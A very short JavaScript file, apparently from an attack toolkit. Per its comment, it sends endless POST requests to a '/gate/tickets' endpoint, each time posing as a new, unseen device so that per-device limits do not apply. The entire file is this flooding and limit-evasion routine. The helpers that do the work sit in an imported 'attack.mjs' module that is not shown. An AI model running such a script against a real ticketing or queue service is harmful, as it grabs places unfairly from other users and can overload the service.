// Asks for a place again and again, each time as a device that was never seen.
import { forEver, send } from './attack.mjs';

forEver(() => send({ method: 'POST', path: '/gate/tickets', body: '{}' }));
